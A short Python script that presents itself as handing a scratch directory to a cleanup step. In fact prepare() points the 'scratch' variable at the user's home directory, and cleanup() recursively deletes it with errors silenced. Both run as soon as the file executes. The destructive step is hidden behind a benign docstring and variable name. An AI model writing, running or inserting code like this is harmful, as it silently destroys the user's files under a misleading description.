"""Hand the scratch location to the cleanup step through the environment."""
import os
import shutil


def prepare():
    os.environ["AGENT_SCRATCH"] = os.path.expanduser("~")


def cleanup():
    shutil.rmtree(os.environ["AGENT_SCRATCH"], ignore_errors=True)


prepare()
cleanup()
